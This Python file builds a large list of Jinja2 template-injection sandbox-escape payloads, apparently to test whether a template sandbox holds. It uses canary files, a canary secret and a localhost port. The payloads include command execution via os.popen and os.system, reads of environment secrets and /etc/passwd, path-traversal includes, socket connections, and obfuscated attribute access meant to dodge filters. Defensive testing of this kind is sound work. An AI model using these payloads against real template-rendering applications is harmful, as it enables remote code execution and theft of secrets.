"""list_payloads(): templates that try to get out: the ways into Python, and what to do there."""

from __future__ import annotations

from itertools import product

# Ways from a template to the names of a module, of which `os` and the builtins are two.
MODULES = (
    "cycler.__init__.__globals__",
    "joiner.__init__.__globals__",
    "namespace.__init__.__globals__",
    "lipsum.__globals__",
    "self.__init__.__globals__",
    "self._TemplateReference__context.cycler.__init__.__globals__",
    "nobody.__init__.__globals__",
    "cycler['__init__']['__globals__']",
    "cycler['__in' ~ 'it__']['__glo' ~ 'bals__']",
    "cycler['__tini__'[::-1]]['__slabolg__'[::-1]]",
    "(cycler | attr('__init__') | attr('__globals__'))",
    r"(cycler | attr('\x5f\x5finit\x5f\x5f') | attr('\x5f\x5fglobals\x5f\x5f'))",
    r"(cycler | attr('\u005f_init_\u005f') | attr('\137_globals__'))",
    "(lipsum | attr(['__glo', 'bals__'] | join))",
    "(lipsum | attr('%c%cglobals%c%c' | format(95, 95, 95, 95)))",
    "(lipsum | attr('__slabolg__' | reverse))",
    "(lipsum | attr('XXglobalsXX' | replace('X', '_')))",
    "(lipsum | attr('__GLOBALS__' | lower))",
    "([lipsum] | map(attribute='__globals__') | first)",
    "([cycler] | map(attribute='__init__.__globals__') | list)[0]",
    "([cycler] | map('attr', '__init__') | map('attr', '__globals__') | first)",
    "([lipsum] | groupby('__globals__.__name__') | first).list[0].__globals__",
    "(dict(a=lipsum).values() | map(attribute='__globals__') | first)",
)
# What is done with these names; WORLD is one of the ways above.
DEEDS = (
    "{{ WORLD.os.popen('touch CANARY').read() }}",
    "{{ WORLD['__builtins__']['open']('CANARY', 'w').write('x') }}",
    "{{ WORLD.os.environ['CANARY_SECRET'] }}",
    "{{ WORLD['__builtins__'].canary_secret or WORLD['__builtins__']['canary_secret'] }}",
    "{{ WORLD.get('__builtins__').get('__import__')('socket')"
    ".create_connection(('127.0.0.1', PORT)) }}",
    "{{ WORLD['__builtins__']['exec']('open(\"CANARY\", \"w\")') }}",
    "{{ WORLD['__builtins__']['open']('/etc/passwd').read() }}",
    "{{ WORLD.os.system('touch CANARY') }}",
    "{% set os = WORLD.os %}{{ os.mkdir('CANARY') }}",
    "{% if WORLD['__builtins__']['eval']('__import__(\"os\").mkdir(\"CANARY\")') %}{% endif %}",
)

# Ways to the class of all classes, and what is found below it.
ROOTS = (
    "''.__class__.__mro__[1]",
    "''.__class__.mro()[-1]",
    "().__class__.__base__",
    "[].__class__.__bases__[0]",
    "{}.__class__.__base__",
    "(1).__class__.__mro__[1]",
    "dict.__base__",
    "dict.mro()[1]",
    "range.__base__",
    "greeting.__class__.__base__",
    "contact.__class__.__base__",
    "(greeting | attr('__class__')).__base__",
    "(greeting | attr('__class__') | attr('__mro__') | last)",
    "nobody.__class__.__mro__[-1]",
    "self.__class__.__base__",
)
CLASSES = "{% for c in ROOT.__subclasses__() if c.__name__ == '_wrap_close' %}"
CLASSES += "{{ c.__init__.__globals__['popen']('touch CANARY').read() }}{% endfor %}"

OTHERS = (
    # format strings reach attributes of what they format
    "{{ '{0.__class__}'.format(greeting) }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(cycler) }}",
    "{{ '{x.__init__.__globals__[os].environ}'.format(x=cycler) }}",
    "{{ '{x.__init__.__globals__[os].environ}'.format_map({'x': cycler}) }}",
    "{{ '{x.__init__.__globals__[os].environ}'.format_map(dict(x=joiner)) }}",
    "{{ ('{x.__init__.__globals__[os].environ}' | attr('format'))(x=cycler) }}",
    "{{ ('{x.__init__.__globals__[os].environ}' | attr('format_map'))({'x': cycler}) }}",
    "{{ ['{0.__init__.__globals__[os].environ}'] | map('attr', 'format') | first }}",
    "{% set f = '{0.__init__.__globals__[os].environ}'.format %}{{ f(cycler) }}",
    "{% set f = '{x.__init__.__globals__[os].environ}'.format_map %}{{ f({'x': namespace}) }}",
    "{{ ('{0.__init__.__globals__[os].environ}' | e).format(cycler) }}",
    "{{ ('{0.__init__.__globals__[os].environ}' | safe).format(cycler) }}",
    "{{ ('%(x)s' | format(x=cycler.__init__.__globals__.os.environ)) }}",
    "{{ '%s' % lipsum.__globals__ }}",
    "{{ '{:{f.__globals__[os].environ}}'.format(1, f=lipsum) }}",
    "{{ '{0!r}'.format(lipsum.__globals__.os.environ) }}",
    # the inside of loops, macros, blocks, calls
    "{% for x in 'a' %}{{ loop.__init__.__globals__.__builtins__ }}{% endfor %}",
    "{% for x in 'a' %}{{ loop.__class__.__init__.__globals__['sys'].modules['os']"
    ".mkdir('CANARY') }}{% endfor %}",
    "{% for x in 'a' %}{{ loop._undefined.__init__.__globals__['__builtins__']"
    "['open']('CANARY', 'w') }}{% endfor %}",
    "{% macro m() %}{% endmacro %}{{ m.__init__.__globals__['__builtins__']"
    "['open']('CANARY', 'w') }}",
    "{% macro m() %}{% endmacro %}{{ m._func.__globals__['environment'] }}",
    "{% macro m() %}{% endmacro %}{{ m._func.__globals__['__builtins__']['open']('CANARY', 'w') }}",
    "{% macro m() %}{{ caller.__init__.__globals__['__builtins__']['open']('CANARY', 'w') }}"
    "{% endmacro %}{% call m() %}{% endcall %}",
    "{% macro m() %}{{ caller._func.__globals__['__builtins__']['open']('CANARY', 'w') }}"
    "{% endmacro %}{% call m() %}{% endcall %}",
    "{% macro m() %}{{ varargs.__class__.__base__.__subclasses__() }}{% endmacro %}{{ m(1) }}",
    "{% macro m() %}{{ kwargs.__class__.__base__.__subclasses__() }}{% endmacro %}{{ m(a=1) }}",
    "{% block b %}{% endblock %}{{ self.b.__init__.__globals__['__builtins__']"
    "['open']('CANARY', 'w') }}",
    "{{ self._TemplateReference__context.environment.loader }}",
    "{{ self._TemplateReference__context.parent }}",
    "{{ self._TemplateReference__context.vars['canary'] }}",
    "{{ self.__dict__ }}",
    "{{ self | attr('_TemplateReference__context') }}",
    "{{ super.__init__.__globals__ }}",
    "{% import 'letter' as l %}{{ l.__class__ }}",
    "{% import 'letter' as l %}{{ l._body_stream.__class__ }}",
    "{% from 'letter' import __class__ %}",
    # frames, code, generators
    "{{ (greeting | map('upper')).gi_frame.f_globals['__builtins__']['open']('CANARY', 'w') }}",
    "{{ (greeting | map('upper') | attr('gi_frame')).f_back.f_globals }}",
    "{{ (greeting | map('upper')).gi_code.co_filename }}",
    "{% macro m() %}{% endmacro %}{{ m._func.__code__.co_consts }}",
    "{{ cycler.next.__code__ }}",
    "{{ cycler.next.__func__ }}",
    "{{ lipsum.__code__.replace(co_name='x') }}",
    "{{ lipsum.__defaults__ }}",
    "{{ lipsum.__module__ }}",
    "{{ lipsum.__kwdefaults__ }}",
    "{{ [].append.__self__ }}",
    "{{ range.__init__.__objclass__ }}",
    "{{ ''.join.__self__.__class__ }}",
    # changing what others will use
    "{{ [].append(1) }}",
    "{{ contact.update({'given': 'x'}) }}",
    "{{ contact.clear() }}",
    "{{ contact.__setitem__('given', 'x') }}",
    "{% set contact.given = 'x' %}",
    "{% set cycler.next = 1 %}",
    "{% do contact.pop('given') %}",
    "{% do [].extend([1]) %}",
    # files by name
    "{% include '/etc/passwd' %}",
    "{% include '../../../../etc/passwd' %}",
    "{% include 'file:///etc/passwd' %}",
    "{% include '/proc/self/environ' %}",
    "{% include ['/etc/passwd', '../../etc/passwd'] %}",
    "{% include '/etc/passwd' ignore missing %}",
    "{% include 'letter.md' %}",
    "{% include greeting %}",
    "{% include ['/etc/', 'passwd'] | join %}",
    "{% extends '/etc/passwd' %}",
    "{% extends '../letter' %}",
    "{% extends contact.given %}",
    "{% import '/etc/passwd' as x %}{{ x }}",
    "{% from '/etc/passwd' import root %}{{ root }}",
    "{% import 'os' as os %}{{ os.mkdir('CANARY') }}",
    # filters with an eye on attributes, keys, sources
    "{{ greeting | xmlattr }}",
    "{{ {'onclick=x y': 1} | xmlattr }}",
    "{{ {'__class__': greeting.__class__} | xmlattr }}",
    "{{ lipsum.__globals__ | tojson }}",
    "{{ cycler | pprint }}",
    "{{ lipsum.__globals__ | pprint }}",
    "{{ 'http://x.example/?' ~ lipsum.__globals__ | urlize }}",
    "{{ [cycler] | sum(attribute='__init__') }}",
    "{{ [cycler, joiner] | sort(attribute='__init__.__globals__.os.environ') }}",
    "{{ [cycler] | selectattr('__init__.__globals__') | list }}",
    "{{ [cycler] | rejectattr('__nope__') | map(attribute='__init__') | list }}",
    "{{ [cycler] | unique(attribute='__init__') | list }}",
    "{{ [cycler] | min(attribute='__init__') }}",
    "{{ [cycler] | groupby(attribute='__init__.__globals__.os.environ.CANARY_SECRET') }}",
    "{{ [lipsum.__globals__] | map('items') | list }}",
    "{{ greeting | map(attribute='__class__') | list }}",
    "{{ ['touch CANARY'] | map(lipsum.__globals__.os.system) | list }}",
    "{{ [contact] | map(attribute='__class__.__base__.__subclasses__') | list }}",
    "{{ greeting | attr('__class__') }}",
    "{{ (1, 2) | attr('__class__') | attr('__base__') }}",
    "{{ greeting | attr('__doc__') }}",
    "{{ greeting | attr('\N{FULLWIDTH LOW LINE}\N{FULLWIDTH LOW LINE}class__') }}",
    "{{ greeting.__\N{MATHEMATICAL BOLD SMALL C}lass__ }}",
    "{{ cycler.__init__.__globals\uff3f\uff3f.os.environ }}",
    "{{ greeting | default(lipsum.__globals__.os.environ, true) }}",
    "{{ none or lipsum.__globals__.os.environ }}",
    "{{ nobody is sameas lipsum.__globals__ }}",
    "{{ lipsum is callable and lipsum.__globals__ }}",
    # while it is compiled: constants are folded, tests and filters run
    "{{ ('' | attr('__class__')) ~ 'x' }}",
    "{{ 'touch CANARY' | map('attr', 'x') | list }}",
    "{{ ['a'] | map('format', lipsum) | list }}",
    "{{ '%s' | format('' | attr('__class__')) }}",
    "{% if '' | attr('__class__') %}x{% endif %}",
    "{{ 'x' is filter('attr') }}",
    "{% set x = ''.__class__ %}{{ x.__base__ }}",
    "{{ ''['__class__'] }}",
    "{{ ''[''.__class__.__name__] }}",
    "{{ {}['__class__'] }}",
    # errors that show too much
    "{{ 1 / 0 }}",
    "{{ raise.__class__ }}",
    "{{ nobody.canary }}",
    "{{ (greeting | int(default=lipsum.__globals__)) }}",
    "{% debug %}",
    "{{ debug() }}",
    "{% trans %}{{ cycler }}{% endtrans %}",
    "{{ _('x') }}{{ gettext.__globals__ }}",
    "{{ request.application.__globals__.__builtins__ }}",
    "{{ config.__class__.__init__.__globals__['os'].mkdir('CANARY') }}",
    "{{ url_for.__globals__ }}{{ get_flashed_messages.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %> {{= 7*7 }}",
    "{php}echo `id`{/php}",
    "# for x in ''.__class__.__mro__\n{{ x }}\n# endfor",
    "{{ print(canary_secret) }}{{ open('CANARY', 'w') }}",
    "{{ exec('x') }}{{ eval('1') }}{{ __import__('os').mkdir('CANARY') }}",
    "{{ getattr(greeting, '__class__') }}{{ globals() }}{{ vars() }}{{ type(1) }}",
    "{{ ''.encode('idna') }}",
    "{{ 'a'.encode('rot13').decode('zip') }}",
    "{{ ('' | attr('encode'))('mbcs') }}",
    "{{ greeting.translate(cycler.__init__.__globals__) }}",
    "{{ [].sort(key=lipsum.__globals__.os.system) }}",
    "{{ 'a' | sort(attribute='__class__.__base__') }}",
)


def list_payloads(canary: str, port: int) -> list[str]:
    """Every payload; where one gets out it touches `canary`, calls `port`, or shows a secret."""
    worlds = [deed.replace("WORLD", way) for way, deed in product(MODULES, DEEDS)]
    classes = [CLASSES.replace("ROOT", root) for root in ROOTS]
    return [
        payload.replace("CANARY_SECRET", "\0")
        .replace("CANARY", canary)
        .replace("\0", "CANARY_SECRET")
        .replace("PORT", str(port))
        for payload in (*worlds, *classes, *OTHERS)
    ]
